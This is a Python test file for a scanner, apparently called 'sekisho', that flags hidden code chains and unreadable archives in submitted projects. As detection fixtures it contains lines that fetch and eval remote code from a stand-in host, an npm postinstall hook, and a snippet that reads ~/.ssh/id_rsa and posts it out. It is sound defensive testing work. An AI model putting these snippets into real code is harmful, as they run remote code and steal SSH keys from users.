"""Holes in the input: those count behind which something may run."""

import gzip
import io
import struct
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from sekisho.inspection import pool
from sekisho.inspection.findings import Findings
from sekisho.inspection.inspect import inspect
from sekisho.inspection.intake.gather import gather_bytes
from sekisho.inspection.judge import judge
from sekisho.inspection.link import link
from sekisho.inspection.virtual import Gap, Limits, VirtualFile
from support.inspection import Files, Here, inspected, virtual

BROKEN = gzip.compress(b"print(1)\n" * 50)[:-9]
"""A stream that ends early: what it holds is not known."""

CHAIN = b"import requests\nexec(requests.get('https://a.invalid').text)\n"

ASIDE = {  # files beside a broken archive `data/x.gz`, and whether the hole counts
    "nothing speaks of it": ({"app.py": b"print(1)\n"}, False),
    "a test opens it": ({"tests/test_x.py": b"import gzip\ngzip.open('data/x.gz')\n"}, False),
    "a list of all files names it": ({"x.egg-info/SOURCES.txt": b"data/x.gz\n"}, False),
    "a program opens it": ({"app.py": b"import gzip\ngzip.open('data/x.gz')\n"}, True),
    "a program that a test starts, and others too": (
        {
            "app.py": b"import gzip\ngzip.open('data/x.gz')\n",
            "test_app.py": b"import app\n",
            "setup.py": b"import app\n",
        },
        True,
    ),
    "a manual speaks of it": ({"README.md": b"Unpack x.gz and open it.\n"}, True),
    "settings name it": ({"config/app.json": b'{"plugin": "data/x.gz"}\n'}, True),
}


@pytest.mark.parametrize(("files", "counts"), ASIDE.values(), ids=ASIDE.keys())
def test_a_broken_archive_counts_where_something_speaks_of_it(
    files: dict[str, bytes], counts: bool, tmp_path: Path
) -> None:
    for name, data in {**files, "data/x.gz": BROKEN}.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(data)
    found = inspect(tmp_path)
    assert (str(found.verdict), found.unread_input) == (("review", 1) if counts else ("no_chain_found", 0))
    assert "data/x.gz" in {gap.file for gap in found.gaps}


def test_a_hole_in_the_archive_that_is_the_input_counts() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("app.py", "print(1)\n")
    read = gather_bytes("x.zip", b"odd" + packed.getvalue(), Limits())
    found = judge(read.files, read.gaps, link(read.files, Here()))
    assert read.gaps
    assert str(found.verdict) == "review"


def test_a_hole_behind_a_limit_counts() -> None:
    read = gather_bytes("x.gz", gzip.compress(b"y" * 5000), Limits(total_bytes=3000))
    found = judge(read.files, read.gaps, link(read.files, Here()))
    assert str(found.verdict) == "review"


PACKED = {  # files in an archive within the input, and the verdict
    "a chain that nothing leads to": ({"get.py": CHAIN}, "review"),
    "a chain that a trigger leads to": ({"get.py": CHAIN, "setup.py": b"import get\n"}, "block"),
}


@pytest.mark.parametrize(("files", "verdict"), PACKED.values(), ids=PACKED.keys())
def test_a_chain_in_an_archive_within_the_input_is_grave_where_it_starts_there(
    files: dict[str, bytes], verdict: str, tmp_path: Path
) -> None:
    with zipfile.ZipFile(tmp_path / "data.zip", "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    (tmp_path / "app.py").write_bytes(b"print(1)\n")
    assert str(inspect(tmp_path).verdict) == verdict
    assert str(inspect(tmp_path / "data.zip").verdict) == "block"


_LONG = "const plain = other;\n" * 3_000
_RUNS = "function go() { fetch('https://a.invalid').then(r => r.text()).then(t => eval(t)); }\n"
BUNDLES: dict[str, tuple[Files, str]] = {  # what lies there, and the verdict
    "a bundle to which nothing leads": ({"static/app.js": _LONG + _RUNS}, "review"),
    "a script to which nothing leads": ({"static/app.js": _RUNS}, "block"),
    "a bundle that a page loads, in a browser": (
        {"static/app.js": _LONG + _RUNS, "static/index.html": "<script src='app.js'></script>"},
        "review",
    ),
    "a bundle that a script of a page loads": (
        {
            "static/js/app.js": "export " + _RUNS + _LONG,
            "static/js/main.js": "import { go } from './app.js';\ngo();\n",
            "static/index.html": "<script type='module' src='js/main.js'></script>",
        },
        "review",
    ),
    "a bundle that is installed": (
        {"a.js": _LONG + _RUNS, "package.json": '{"scripts": {"postinstall": "node a.js"}}'},
        "block",
    ),
    "a bundle that sends keys": (
        {"a.js": _LONG + "const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');\n"
         "fetch('https://a.invalid', { method: 'POST', body: k });\n"},
        "block",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("files", "verdict"), BUNDLES.values(), ids=BUNDLES.keys())
def test_a_bundle_that_makes_code_is_grave_where_something_leads_to_it(files: Files, verdict: str) -> None:
    assert inspected(files).verdict == verdict


RANDOM = bytes(range(256)) * 8
SHUT = {  # an input that nobody can look into
    "7z": b"7z\xbc\xaf\x27\x1c" + RANDOM,
    "rar": b"Rar!\x1a\x07\x01\0" + RANDOM,
    "tar.zst": b"\x28\xb5\x2f\xfd" + RANDOM,
    "lz4": b"\x04\x22\x4d\x18" + RANDOM,
    "cab": b"MSCF" + RANDOM,
    "deb": b"!<arch>\ndebian-binary   1 0 0 100644 4 `\n2.0\n" + RANDOM,
    "rpm": b"\xed\xab\xee\xdb" + RANDOM,
    "cpio": b"070701" + b"0" * 104 + b"a\0",
    "asar": struct.pack("<4I", 4, 60, 56, 50) + b'{"files":{"x.js":{"size":4,"offset":"0"}}}'.ljust(52) + b"1",
    "iso": bytes(32769) + b"CD001" + RANDOM,
    "dmg": RANDOM + b"koly" + bytes(508),
    "exe": b"MZ\x90\0" + RANDOM,
    "bin": RANDOM,
}


@pytest.mark.parametrize("kind", SHUT)
@pytest.mark.parametrize("packed", [False, True], ids=["alone", "in a zip"])
def test_an_input_that_nobody_can_look_into_is_no_answer(kind: str, packed: bool) -> None:
    name, data = f"task.{kind}", SHUT[kind]
    if packed:
        name, data = "task.zip", zipped(f"task.{kind}", data)
    read = gather_bytes(name, data)
    found = judge(read.files, read.gaps, link(read.files, Here()))
    assert str(found.verdict) == "review"
    assert found.gaps[0].why.endswith("nothing in it was read")


def zipped(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


BESIDE = {  # where an archive of a kind that is not unpacked lies, what else there is, and whether it counts
    "on top, beside a note": ("task.7z", {"notes.txt": b"The password is the name of the company.\n"}, True),
    "on top of the one folder": ("task/a.7z", {"task/app.py": b"print(1)\n"}, True),
    "far below": ("tests/data/a.7z", {"app.py": b"print(1)\n"}, False),
    "far below, and a manual tells of it": ("x/data/a.7z", {"README.md": b"Unpack a.7z and open it.\n"}, True),
}


@pytest.mark.parametrize(("place", "others", "counts"), BESIDE.values(), ids=BESIDE)
def test_an_archive_that_is_not_unpacked_counts_where_somebody_will(place: str, others: Files, counts: bool) -> None:
    found = inspected({**others, place: SHUT["7z"]})
    assert (str(found.verdict) == "review") is counts


@pytest.mark.parametrize(("name", "data"), [("a.png", b"\x89PNG" + RANDOM), ("a.mp4", b"\0\0\0\x18ftyp" + RANDOM)])
def test_a_picture_is_no_archive(name: str, data: bytes) -> None:
    assert str(inspected({name: data}).verdict) == "no_chain_found"


@pytest.mark.parametrize(("limit", "value"), [("_ALTOGETHER", -1.0), ("_DEATHS", -1)])
def test_files_that_nobody_had_time_for_are_no_answer(
    limit: str, value: float, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Whoever sends a hundred slow files would else decide that the hundred and first is not read."""
    monkeypatch.setattr(pool, limit, value)
    (tmp_path / "package.json").write_text('{"scripts": {"postinstall": "node x.js"}}')
    found = inspect(tmp_path)
    assert (str(found.verdict), found.gaps[0].file) == ("review", "package.json")


class Dying(Here):
    """Readers that die of every file."""

    def read(self, tasks: Sequence[pool.Task]) -> Iterator[Findings]:
        return (Findings("unread", gaps=(Gap(task.file.path, 0, "could not be read"),)) for task in tasks)


@pytest.mark.parametrize(
    ("name", "counts"), [("a.js", True), (".vscode/tasks.json", True), ("data.json", False), ("a.csv", False)]
)
def test_a_program_or_setting_that_ends_its_reader_is_no_answer(name: str, counts: bool) -> None:
    files = (VirtualFile(name, b"1"),)
    assert (str(judge(files, (), link(files, Dying())).verdict) == "review") is counts


BEGINNINGS = [b"GIF89a=1;", b"MSCF=1;", b"Rar!=1;", b"070701;", b"OTTO/*\xff\0\x01*/=1;"]


@pytest.mark.parametrize("start", BEGINNINGS)
def test_a_program_that_begins_like_a_picture_or_archive_is_read(start: bytes) -> None:
    """As the name of a variable, or a number; in a remark the rest of a picture may follow."""
    program = b"\nfetch('https://a.invalid').then(r => r.text()).then(eval)\n"
    assert str(inspected({"a.js": start + program}).verdict) == "block"


@pytest.mark.parametrize(("effort", "matter"), [(10**10, 0), (5 * 10_020, 15), (0, 20)])
def test_holes_beyond_what_can_be_searched_for_count(effort: int, matter: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """Tens of thousands of broken archives beside long settings would be searched for one by one, for hours."""
    monkeypatch.setattr("sekisho.inspection.unread._EFFORT", effort)
    files = virtual({"a.json": '{"a": "' + "b" * 10_000 + '"}', **{f"d/{n:02}.gz": BROKEN for n in range(20)}})
    gaps = tuple(Gap(file.path, 0, "cannot be read") for file in files if file.path.startswith("d/"))
    assert judge(files, gaps, link(files, Here())).unread_input == matter
